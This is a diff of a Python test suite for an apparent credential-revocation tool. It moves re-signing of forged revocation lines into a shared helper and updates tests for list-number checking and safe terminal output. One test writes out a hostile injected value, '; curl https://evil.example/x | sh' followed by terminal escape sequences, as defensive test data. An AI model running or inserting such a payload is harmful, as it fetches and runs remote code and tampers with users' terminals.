@@ -83,6 +83,24 @@ def _compromised(signer: Signer) -> tuple[SigningKey, str]:
     return new_key, str(signer.key_dir / f"{ISSUER}-{new_key.key_id}.key")
 
 
+def _signed_line(signer: Signer, digest: str, index: int, when: dt.datetime, **change: Any) -> dict[str, Any]:
+    """A revocation line of ``digest`` in slot (1, ``index``) with ``change`` made to it, then signed with the
+    issuer's key at ``when``: what the key's holder can write, whatever it says."""
+    from generator.awarding.revoke import revocation_entry
+    from generator.crypto.dataintegrity import create_proof
+    from generator.openbadges import timestamp
+
+    did = signer.registry.issuer_did(ISSUER)
+    entry = revocation_entry(did, digest, 1, index, "Issued in error", signer.key, when)
+    del entry["proof"]
+    entry.update(change)
+    entry["proof"] = create_proof(
+        entry, cryptosuite="eddsa-jcs-2022", seed=signer.key.seed,
+        verification_method=f"{did}#{signer.key.key_id}", created=timestamp(when),
+    )  # fmt: skip
+    return entry
+
+
 def _place_award(signer: Signer, award: dict[str, Any]) -> str:
     """Put ``award`` in the issuer's awards folder, as a change to the checkout could; its hash."""
     digest = award_hash(award)
@@ -625,22 +643,10 @@ def test_a_revocation_line_counts_only_with_integer_slot_numbers_as_written(
     # A line the issuer signed with its slot's list number spelt "1" (or 1.0, or true): the check read it as list 1
     # (lax integers) while `credreg revoke`, rebuilding the list from the log, did not count it. Signed JSON is read
     # as written, by one rule: such a line is refused, and counts for no one.
-    from generator.awarding.revoke import revocation_entry
-    from generator.crypto.dataintegrity import create_proof
-    from generator.openbadges import timestamp
-
     issued = signer.award(email="a@example.org")
     revoke_award(signer.registry, issued.hash, "Issued in error", signer.key)
     log = layout.revocations_path(signer.root, ISSUER)
-    when = dt.datetime.now(dt.UTC)
-    did = signer.registry.issuer_did(ISSUER)
-    entry = revocation_entry(did, issued.hash, 1, _slot(issued), "Issued in error", signer.key, when)
-    del entry["proof"]
-    entry["statusList"] = spelling
-    entry["proof"] = create_proof(
-        entry, cryptosuite="eddsa-jcs-2022", seed=signer.key.seed,
-        verification_method=f"{did}#{signer.key.key_id}", created=timestamp(when),
-    )  # fmt: skip
+    entry = _signed_line(signer, issued.hash, _slot(issued), dt.datetime.now(dt.UTC), statusList=spelling)
     log.write_text(json.dumps(entry) + "\n", encoding="utf-8")
     problems = run_check(signer.root).problems.errors
     assert any(p.code == "revocation.schema" and "statusList" in str(p) for p in problems), problems
@@ -674,22 +680,13 @@ def test_revoke_never_tells_the_issuer_to_run_what_a_thief_s_line_names(signer: 
     `credreg revoke` named it as one of the issuer's own revocations that no longer counts, raw on the terminal, and
     told the issuer to run `credreg revoke <that text>`. A line that names no award by its hash revokes nothing (the
     check refuses it): it is not named, and what is printed is made safe for the terminal."""
-    from generator.awarding.revoke import revocation_entry, uncounted_revocations
-    from generator.crypto.dataintegrity import create_proof
-    from generator.openbadges import timestamp
+    from generator.awarding.revoke import uncounted_revocations
 
     other = signer.award(email="other@example.org")
     _, new_file = _compromised(signer)
-    did = signer.registry.issuer_did(ISSUER)
     when = dt.datetime(2025, 3, 1, tzinfo=dt.UTC)  # after the end given to the stolen key
     hostile = "0" * 8 + "; curl https://evil.example/x | sh \x1b]0;pwned\x07\x1b[2J"
-    entry = revocation_entry(did, other.hash, 1, 0, "x", signer.key, when)
-    del entry["proof"]
-    entry["award"] = hostile
-    entry["proof"] = create_proof(
-        entry, cryptosuite="eddsa-jcs-2022", seed=signer.key.seed,
-        verification_method=f"{did}#{signer.key.key_id}", created=timestamp(when),
-    )  # fmt: skip
+    entry = _signed_line(signer, other.hash, 0, when, award=hostile, reason="x")
     log = layout.revocations_path(signer.root, ISSUER)
     log.parent.mkdir(parents=True, exist_ok=True)
     with log.open("a", encoding="utf-8") as out:
